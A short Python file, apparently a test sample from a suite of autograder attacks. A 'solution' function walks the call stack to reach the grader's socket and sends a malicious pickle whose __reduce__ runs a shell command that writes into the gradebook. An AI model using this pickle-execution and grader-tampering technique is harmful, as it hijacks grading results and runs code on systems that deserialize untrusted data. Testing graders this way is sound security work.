"""Sends a pickle in place of a frame, one that would write into the gradebook when it is loaded."""

import os
import pickle
import struct
import sys


class Payload:
    def __reduce__(self):
        return os.system, ("echo pickled >> /tmp/autograder-attacks/gradebook.txt",)


def double(x):
    frame = sys._getframe()
    while "self" not in frame.f_locals:
        frame = frame.f_back
    body = pickle.dumps(Payload())
    frame.f_locals["self"].sock.sendall(struct.pack(">I", len(body)) + body)
    return Payload()
